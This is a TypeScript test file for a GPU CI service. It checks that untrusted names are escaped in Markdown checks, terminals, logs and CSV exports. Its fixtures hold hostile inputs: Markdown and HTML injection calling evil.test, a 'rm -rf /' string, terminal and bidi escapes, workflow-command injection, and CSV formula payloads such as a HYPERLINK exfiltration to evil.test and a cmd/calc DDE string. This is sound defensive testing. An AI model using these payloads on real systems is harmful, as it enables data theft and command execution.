// oxlint-disable no-control-regex -- control characters are what is looked for here
/**
 * Text that others have written, where people or machines read it: checks (Markdown), the page (HTML; in a real browser:
 * test/worker/page-browser.test.ts), terminals, the runner's log, CSV and log lines.
 */
import { describe, expect, it } from "vitest";
import { costMarkdown } from "../../shared/cost/markdown.ts";
import type { CostReport } from "../../shared/cost/report.ts";
import { safeText } from "../../shared/http.ts";
import { auditText } from "../../shared/audit/tail.ts";
import { checkView } from "../../shared/lifecycle/check-view.ts";
import type { GateRequest } from "../../shared/lifecycle/model.ts";
import { verdict } from "../../shared/lifecycle/verdict.ts";
import { codeSpan, inMarkdown, onOneLine, outOfMarkdown } from "../../shared/text.ts";
import { logLine } from "../../durable-objects/platform.ts";
import { gpuGate } from "../hosted/io.ts";
import { ADMISSION, attemptAt, PROOF, requestIn, states } from "../lifecycle/fixtures.ts";

/** Each is a way out of the place it is shown in. */
const ATTACKS = [
  "</details><img src=https://evil.test/phone-home.png>",
  "![x](https://evil.test/phone-home.png)",
  "[Log of the job](https://evil.test/login)",
  "@everyone @octo/admins please merge",
  "fixes #1, closes octo/engine#2, GH-3",
  "see https://evil.test/login or www.evil.test",
  "`; rm -rf / #`",
  "``` \n# A heading\n| a | b |\n| --- | --- |",
  "| cell | of | another | table |",
  "line\r\nbreak\u2028and\u2029more\u0085still",
  "\u001b]0;owned\u0007\u001b[2J\u009b31m",
  "\u202eevil\u2066\u2069\u200f",
  "<!-- -->&lt;b&gt;&#64;everyone",
  "~~struck~~ **bold** __bold__ $\\color{red}$ ",
  "\\",
  "",
] as const;

const NO_QUEUE = { place: null, waiting: 0, holder: null, etaMs: null };

/** What GitHub would act on in this Markdown, once code and what is escaped are taken away. */
function alive(markdown: string): string {
  return markdown
    .replaceAll(/`[^`\n]*`/g, "")
    .replaceAll(/\\[\\`*_{}[\]<>#|@!~$]/g, "")
    .replaceAll("&#8203;", "\u00b7")
    .replaceAll(/&(?:amp|lt|gt);/g, "");
}

function hostileRequests(text: string): GateRequest[] {
  const parts: Partial<GateRequest> = {
    admission: { ...ADMISSION, title: text, baseRef: text, reason: text, testedSha: text },
    gpu: text,
    failedSteps: [text, text],
    tried: [{ name: text, price: 1, answer: text }],
    leftOut: [{ name: text, price: null, answer: text }],
    runnerNote: text,
    counts: { attempts: 1, pods: 1, startupFailures: 0, idleRetries: 0, lostRetries: 0, outageRetries: 0 },
    pricePerHour: 1,
  };
  const executing = states.executing();
  const attempt = attemptAt("online", { proof: { ...PROOF, gpuName: text, driverCuda: text } });
  return [
    requestIn(
      { ...states.concluded(), verdict: verdict("failed", "tests-failed", `The GPU tests failed: ${text}.`) },
      parts,
    ),
    requestIn(
      { ...states.concluded(), verdict: verdict("failed", "preparation-failed", `Preparation failed: ${text}.`) },
      parts,
    ),
    requestIn(
      { ...states.concluded(), verdict: verdict("infrastructure", "runner-config", `GitHub refused: ${text}`) },
      parts,
    ),
    requestIn(
      { ...states.concluded(), verdict: verdict("refused", "base-changed", `The base is now ${text}.`) },
      parts,
    ),
    requestIn({ ...executing, attempt }, parts),
    requestIn(states.queued(), parts),
  ];
}

describe("a check", () => {
  it.each(ATTACKS.map((text) => [JSON.stringify(text), text]))("shows %s as text", (_shown, text = "") => {
    for (const [index, request] of hostileRequests(text).entries()) {
      const view = checkView(request, NO_QUEUE);
      const markdown = `${view.summary}\n${view.text}`;
      // No line more than the same check with a harmless name has: nothing breaks out of its line.
      const quiet = checkView(hostileRequests("x")[index] ?? request, NO_QUEUE);
      expect(markdown.split("\n")).toHaveLength(`${quiet.summary}\n${quiet.text}`.split("\n").length);
      const rest = alive(markdown).replace(/<\/?(?:details|summary)>/g, "");
      expect(rest).not.toMatch(/[<>@]|!\[|\]\(https:\/\/evil|https?:\/\/evil|www\.evil|#\d|GH-\d|~~|\*\*/);
      const open = alive(markdown);
      expect(open.match(/<details>/g)?.length).toBe(open.match(/<\/details>/g)?.length);
      expect(markdown).not.toMatch(
        /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069\u200f]/,
      );
      expect(view.title).not.toContain(text === "" ? "\n" : text);
    }
  });

  it("shows costs of machines and places with such names as text", () => {
    const report = {
      podId: ATTACKS[0],
      gpu: ATTACKS[3],
      tier: ATTACKS[8],
      dataCenter: ATTACKS[1],
      pricePerHour: 1,
      priceSource: "pod",
      paidMs: 1,
      cost: 1,
      outcome: ATTACKS[4],
      stages: null,
      flags: [],
      observations: { [ATTACKS[9]]: true },
    } as unknown as CostReport;
    const markdown = costMarkdown([report, report]);
    expect(alive(markdown).replace(/<\/?(?:details|summary)>/g, "")).not.toMatch(/[<>@]|!\[|#\d/);
    expect(markdown.match(/<\/details>/g)).toHaveLength(1);
  });

  it("keeps the words: what was escaped reads the same on a terminal", () => {
    for (const text of ATTACKS.slice(0, 8)) expect(outOfMarkdown(inMarkdown(text))).toBe(onOneLine(text));
    expect(outOfMarkdown(inMarkdown("a&b &amp; c_d"))).toBe("a&b &amp; c_d");
  });

  it("cuts before it escapes, so that no escape is cut in two, and shows an empty name as one", () => {
    expect(inMarkdown("<".repeat(400))).toBe("\\<".repeat(300));
    expect(inMarkdown("@".repeat(400)).endsWith("\\@&#8203;")).toBe(true);
    expect([codeSpan(""), codeSpan("``"), codeSpan("\u202e")]).toEqual(["`-`", "`-`", "`-`"]);
  });
});

describe("a terminal and the runner's log", () => {
  it("is not told what to do by any text", () => {
    for (const text of ATTACKS) {
      const shown = safeText(text, 500);
      expect(shown).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069\u200f]/);
      expect(shown.split("\n")).toHaveLength(1);
    }
    const entry = {
      seq: 1,
      at: 0,
      request: ATTACKS[9],
      act: "x",
      reason: null,
      facts: { [ATTACKS[10]]: ATTACKS[11] },
      prev: "",
      hash: "",
    };
    expect(auditText("101", entry)).not.toMatch(/[\n\r\u001b\u009b\u2028\u202e]/);
  });

  it("hears no workflow command from an answer of the control plane", async () => {
    const body = "fine\n::set-output name=x::y\n  ::add-path::/tmp\n##[add-mask]x\r::error::z";
    const answer = await gpuGate(["sweep", "--url", "https://gate.test"], { fetch: async () => new Response(body) });
    const commands = answer.out.split(/\r|\n/).filter((line) => /^\s*::|##\[/.test(line));
    expect(commands).toEqual([]);
    expect(answer.out).toContain("answer: fine");
  });

  it("cannot be given another line of the log by a name with a line break", () => {
    const lines: string[] = [];
    const before = console.log;
    console.log = (line: unknown) => void lines.push(String(line));
    try {
      logLine({ event: "x", name: 'a\n{"event":"operator.resume"}\r\nb' });
    } finally {
      console.log = before;
    }
    expect(lines.join("").split(/[\r\n]/)).toHaveLength(1);
  });
});

describe("a spreadsheet", () => {
  const csvOf = async (gpu: string): Promise<string> => {
    const cost = {
      attemptId: "a",
      podId: "p1",
      requestId: "r1",
      attemptNumber: 1,
      prNumber: 7,
      headSha: null,
      testedSha: null,
      gpu,
      tier: "t",
      dataCenter: null,
      pricePerHour: 0.36,
      priceSource: "pod",
      recordSource: "pre_delete",
      paidFrom: 0,
      deletedAt: 0,
      provenAt: 0,
      paidMs: 1,
      cost: 1,
      createMs: null,
      outcome: "x",
      accepted: true,
      gpuJob: "success",
      stages: null,
      flags: [],
      observations: {},
      repositoryId: "101",
      verdict: null,
      decisive: true,
      billed: null,
    };
    const fetch = async () => Response.json({ from: 0, to: 1, complete: true, costs: [cost] });
    const answer = await gpuGate(["costs", "--format", "csv"], { env: { GPU_GATE_URL: "https://gate.test" }, fetch });
    expect(answer.err).toBe("");
    return answer.out;
  };

  it.each([
    "=1+1",
    '=HYPERLINK("https://evil.test/?"&A1)',
    "+1+1|cmd",
    "-1+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1+2",
    "＠SUM(1)",
    "%0A=1",
  ])("computes nothing of %j", async (gpu) => {
    const out = await csvOf(gpu);
    const cell = out.slice(out.indexOf("p1,") + 3);
    expect(cell.replace(/^"/, "")).toMatch(/^(?:'|%)/);
  });

  it("still has numbers for numbers", async () => {
    expect(await csvOf("-1.5")).toContain("p1,-1.5,t,0.36,");
  });
});
